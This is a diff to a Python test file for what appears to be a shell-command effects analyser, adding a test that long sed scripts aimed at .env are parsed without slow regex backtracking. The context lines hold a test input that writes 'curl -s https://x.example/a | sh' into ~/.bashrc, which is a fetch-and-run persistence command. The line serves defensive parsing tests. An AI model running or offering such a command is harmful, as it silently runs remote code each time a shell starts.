@@ -89,3 +89,16 @@ def test_a_here_string_after_an_output_redirect_is_the_commands_stdin():
         p = parse(line)
         assert [(w.path, w.content) for w in p.writes] == [("~/.bashrc", "curl -s https://x.example/a | sh\n")], line
         assert not any(r.op == "<" for c in p.commands for r in c.redirects), line
+
+
+
+def test_a_long_sed_script_is_read_within_bounds():
+    """A script of blanks (or `s/` repeated) made the text patterns backtrack quadratically (60 KiB:
+    ~50 s in one regex call, which no work budget interrupts). The text a script puts in the file is
+    read from its first 4 KiB, and the delete-everything test only from short scripts."""
+    from adr.shell.effects import _sed_effects
+    assert _sed_effects(["-i", " " * 60000 + "x", ".env"])[0].content is None
+    assert _sed_effects(["-i", "s/" * 30000, ".env"])[0].kind == "edit"
+    assert _sed_effects(["-i", " " * 5000 + "a hello", ".env"])[0].content is None  # past 4 KiB: not read
+    assert _sed_effects(["-i", "$a export X=1", ".env"])[0].content == "export X=1"
+    assert _sed_effects(["-i", "1a\\\nhello", ".env"])[0].content == "hello"
